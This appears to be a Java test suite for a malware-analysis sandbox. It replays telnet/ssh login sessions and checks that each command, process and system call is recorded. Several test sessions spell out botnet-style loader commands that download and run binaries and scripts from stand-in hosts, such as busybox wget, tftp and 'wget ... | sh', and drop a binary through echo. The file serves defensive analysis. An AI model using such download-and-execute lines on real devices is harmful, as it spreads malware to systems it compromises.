package org.malassay.environments.contract;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.malassay.behavior.CallsCounted;
import org.malassay.behavior.Event;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.ProcessBegun;
import org.malassay.behavior.ProcessEnded;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.behavior.SystemCall;
import org.malassay.environment.Ending;
import org.malassay.environment.Execution;
import org.malassay.environment.Guest;
import org.malassay.environment.Limits;
import org.malassay.environment.Opening;
import org.malassay.environment.Order;
import org.malassay.environments.tracing.Recorder;
import org.malassay.infection.InfectionFold;
import org.malassay.infection.StageSeen;
import org.malassay.options.Options;
import org.malassay.sample.Sample;

/** What holds for a session of a remote login, wherever one is held. */
public abstract class LoginContract extends GuestHarness {
  private static final String FIRST_LINE = "#!/usr/local/sbin/malassay-login\n";
  private static final String MARK = "/malassay/command/";

  /** Control and D. */
  private static final int END_OF_LOGIN = 4;

  private static final int SIGHUP = 1;

  /** What an environment is opened with whose samples are sessions, recorded as for users. */
  protected static Opening opening(String run, Limits limits, String... defences) {
    return new Opening(
        Options.of(Map.of()),
        limits,
        run,
        EnumSet.allOf(Facet.class),
        List.of(defences),
        /* logins= */ true);
  }

  @Override
  protected Duration time() {
    return Duration.ofMinutes(2);
  }

  protected final Assay type(String session) throws Exception {
    return assay(session(session));
  }

  protected final Sample session(String text) throws Exception {
    return arm().bytes("session", (FIRST_LINE + text).getBytes(ISO_8859_1));
  }

  /** The marks of its commands, in their order. */
  protected static List<SystemCall> marks(Assay assay) {
    return assay.calls("faccessat").stream()
        .filter(call -> call.path().filter(path -> path.startsWith(MARK)).isPresent())
        .toList();
  }

  /** The programs that were started after command N was typed, and before the next one was. */
  private static List<String> programs(Assay assay, int command) {
    List<SystemCall> marks = marks(assay);
    Duration from = marks.get(command - 1).at();
    Duration to = command < marks.size() ? marks.get(command).at() : Duration.ofDays(1);
    return assay.all(ProgramStarted.class).stream()
        .filter(it -> it.at().compareTo(from) > 0 && it.at().compareTo(to) < 0)
        .map(it -> String.join(" ", it.arguments()))
        .toList();
  }

  /** Types one of eleven commands, and looks at what is known of it. */
  protected final void assertThatASessionIsTypedShownAndRecorded(String protocol) throws Exception {
    Assay assay =
        type(
            """
              # source: ours
              # protocol: %s
              echo hello
              cd /tmp
              busybox wget http://loader.example/bins/x.arm7
              chmod 777 x.arm7
              ./x.arm7
              busybox tftp -g -r y.arm7 198.51.100.9; ls -l y.arm7
              busybox wget -q -O - http://203.0.113.4/z.arm7 | head -c 4 | tail -c 3
              sh
              echo -ne '\\x64\\x65\\x76ice'; echo
              exit
              exit
              """
                .formatted(protocol));

    String shown = assay.execution().stdout().text();
    assertThat(assay.execution().ending()).as(shown).isEqualTo(new Ending.Exited(0));
    assertThat(shown)
        .contains("# \u001b[6necho hello\r\nhello\r\n# ")
        .contains("ELF", "device\r\n")
        .contains("y.arm7\r\n");
    assertThat(assay.execution().stderr().text()).isEmpty();
    assertThat(assay.after().available()).isTrue();
    assertThat(assay.execution().recording().states(Recorder.FACETS))
        .containsOnly(
            Map.entry(Facet.CALLS, FacetState.OBSERVED),
            Map.entry(Facet.PROCESSES, FacetState.OBSERVED));

    assertThat(marks(assay))
        .extracting(it -> it.path().orElseThrow())
        .isEqualTo(IntStream.rangeClosed(1, 11).mapToObj(i -> MARK + i).toList());
    int typist = assay.all(ProcessBegun.class).get(0).process();
    assertThat(marks(assay)).extracting(SystemCall::process).containsOnly(typist);
    assertThat(programs(assay, 1)).isEmpty();
    assertThat(programs(assay, 3))
        .containsExactly("busybox wget http://loader.example/bins/x.arm7");
    assertThat(programs(assay, 4)).containsExactly("chmod 777 x.arm7");
    assertThat(programs(assay, 5)).containsExactly("./x.arm7");
    assertThat(programs(assay, 8)).containsExactly("sh");
    assertThat(assay.calls("chdir"))
        .anyMatch(it -> it.path().equals(Optional.of("/tmp")) && it.succeeded());
    assertThat(assay.all(Question.class))
        .extracting(it -> it.protocol() + " " + it.asked())
        .contains(
            "http GET http://loader.example/bins/x.arm7",
            "tftp read y.arm7",
            "http GET http://203.0.113.4/z.arm7");
    // What it wrote has its whole path, so the folder of its shell was known from the beginning.
    assertThat(assay.events())
        .filteredOn(SystemCall.class::isInstance)
        .extracting(it -> ((SystemCall) it).path().orElse(""))
        .contains("/tmp/x.arm7", "/tmp/y.arm7");
    // The login and its shell, of which the sample is no parent, are the sample's all the same.
    assertThat(assay.all(ProgramStarted.class))
        .anyMatch(
            it -> it.program().equals("/bin/busybox") && it.arguments().equals(List.of("-sh")));
  }

  @Test
  protected void aSessionIsTypedShownRecordedAndItsCallsAreTiedToItsCommands() throws Exception {
    assertThatASessionIsTypedShownAndRecorded("telnet");
  }

  private static List<Integer> begun(ToldEvents told) {
    return told.all(ProcessBegun.class).stream().map(ProcessBegun::process).toList();
  }

  private static List<Integer> ended(ToldEvents told) {
    return told.all(ProcessEnded.class).stream().map(ProcessEnded::process).toList();
  }

  @Test
  protected void aSessionWhoseLoginClosesBeforeItsLastCommandFailsAndSaysWhere() throws Exception {
    Assay assay = type("# commands:\n# of no effect; echo a\nexit\necho b\necho c");

    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(1));
    assertThat(assay.execution().stderr().text())
        .isEqualTo("malassay-login: the login closed at command 2 of 4\n");
    assertThat(assay.execution().stdout().text())
        .contains("\u001b[6n# of no effect; echo a\r\n# ")
        .doesNotContain("echo b");
    assertThat(marks(assay)).hasSize(2);
  }

  @Test
  protected void aSessionOfAnyBytesIsTypedToItsEnd() throws Exception {
    String bytes =
        IntStream.range(1, 256)
            .filter(c -> c != '\n' && c != END_OF_LOGIN)
            .mapToObj(c -> String.valueOf((char) c))
            .collect(Collectors.joining());
    Assay assay =
        type(
            "\n\u0000a\u0000\n"
                + bytes
                + "\u0003\n: "
                + "long ".repeat(4000)
                + "\necho 'a prompt: # '; echo still here\necho \\377 and the end");

    String shown = assay.execution().stdout().text();
    assertThat(assay.execution().ending()).as(shown).isEqualTo(new Ending.Exited(0));
    assertThat(shown).contains("a prompt: # \r\nstill here\r\n").contains("377 and the end\r\n");
    assertThat(marks(assay)).hasSize(6);
  }

  @Test
  protected void aScriptThatAShellReadsAsItIsFetchedIsAScriptThatWasRun() throws Exception {
    String command = "busybox wget -q -O - http://loader.example/bins/x.sh | sh";
    InfectionFold fold = new InfectionFold(List.of(command));
    type(command + "\n").events().forEach(fold::accept);

    assertThat(fold.infection().stages())
        .filteredOn(StageSeen::succeeded)
        .extracting(StageSeen::stage)
        .contains("6a");
  }

  /** Each of its 80,000 letters is read and shown by a call: more than are told of one number. */
  @Test
  protected void aLongProgramThatEchoWritesIsRecordedWhole() throws Exception {
    byte[] program = LoadedProgram.of(20_000);
    StringBuilder session = new StringBuilder("cd /tmp\n");
    for (int at = 0; at < program.length; at += LoadedProgram.LINE) {
      session
          .append("echo -ne '")
          .append(LoadedProgram.escapes(program, at))
          .append("' >> loaded\n");
    }
    Assay assay = type(session + "chmod 777 loaded\n./loaded; echo status $?\n");

    assertThat(assay.execution().stdout().text()).contains("status 7\r\n");
    assertThat(assay.execution().recording().states(Recorder.FACETS))
        .containsEntry(Facet.CALLS, FacetState.OBSERVED);
    assertThat(
            assay.calls("write").stream()
                .filter(it -> it.path().equals(Optional.of("/tmp/loaded")))
                .mapToLong(SystemCall::result)
                .sum())
        .isEqualTo(program.length);
    assertThat(assay.all(ProgramStarted.class)).anyMatch(it -> it.program().equals("/tmp/loaded"));
    assertThat(assay.all(CallsCounted.class))
        .anyMatch(it -> it.name().equals("read") && it.calls() > 4L * program.length);
  }

  @Test
  protected void aMalformedSessionIsRefusedWithTheReason() throws Exception {
    Assay assay = type("# protocol: rlogin\necho a\n");

    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(2));
    assertThat(assay.execution().stderr().text())
        .isEqualTo("malassay-login: malformed session: its protocol is neither telnet nor ssh\n");
  }

  @Test
  protected void aCommandThatSaysNothingIsNotWaitedForForEver() throws Exception {
    Assay assay = type("sleep 1000\n\u0003\necho after\n");

    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(0));
    assertThat(assay.execution().stdout().text()).contains("after\r\n");
    assertThat(assay.execution().duration())
        .isBetween(Duration.ofSeconds(9), Duration.ofSeconds(30));
  }

  @Test
  protected void whatASessionLeavesBehindGoesOnAndWhatItRanBeforeItsEndHangsUp() throws Exception {
    List<Event> events = Collections.synchronizedList(new ArrayList<>());
    Execution execution;
    try (Guest guest = environment().start()) {
      guest.put(session("(trap '' HUP; sleep 2; echo > /tmp/late) &\nsleep 1000\n"));
      execution = guest.run(new Order(List.of(), Duration.ofSeconds(30)), events::add);
    }
    ToldEvents told = () -> List.copyOf(events);

    assertThat(execution.ending()).isEqualTo(new Ending.Exited(0));
    assertThat(told.all(SystemCall.class))
        .extracting(it -> it.path().orElse(""))
        .contains("/tmp/late");
    assertThat(told.all(ProcessEnded.class))
        .extracting(ProcessEnded::signal)
        .contains(OptionalInt.of(SIGHUP));
    assertThat(ended(told)).containsAll(begun(told));
    assertThat(execution.observed()).isLessThan(Duration.ofSeconds(28));
  }

  /** How many logins are held. */
  protected abstract int logins();

  @Test
  protected void aSampleThatIsNoSessionFindsTheLoginsAsTheyWere() throws Exception {
    Assay assay =
        assay(
            arm()
                .text(
                    "script",
                    """
                    #!/bin/sh
                    [ -f /etc/malassay-guest ] || exit 77
                    cat /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -c '^-malassay-shell'
                    """));

    assertThat(assay.execution().stdout().text()).isEqualTo(logins() + "\n");
    assertThat(assay.all(ProgramStarted.class))
        .noneMatch(it -> it.arguments().contains("-sh"))
        .extracting(ProgramStarted::process)
        .isSubsetOf(begun(assay));
  }

  @Test
  protected void aPromptIsThereIn2SecondsAnd24CommandsAreTypedIn12() throws Exception {
    String line = "echo -ne '" + "\\x41\\x0a".repeat(48) + "' >> /tmp/upnp\n";
    Assay assay = type("cd /tmp\n" + line.repeat(22) + "wc -c upnp\n");

    assertThat(assay.execution().stdout().text()).contains("2112 upnp\r\n");
    assertThat(marks(assay)).hasSize(24);
    assertThat(marks(assay).get(0).at()).isLessThan(Duration.ofSeconds(2));
    assertThat(assay.execution().duration()).isLessThan(Duration.ofSeconds(12));
  }
}
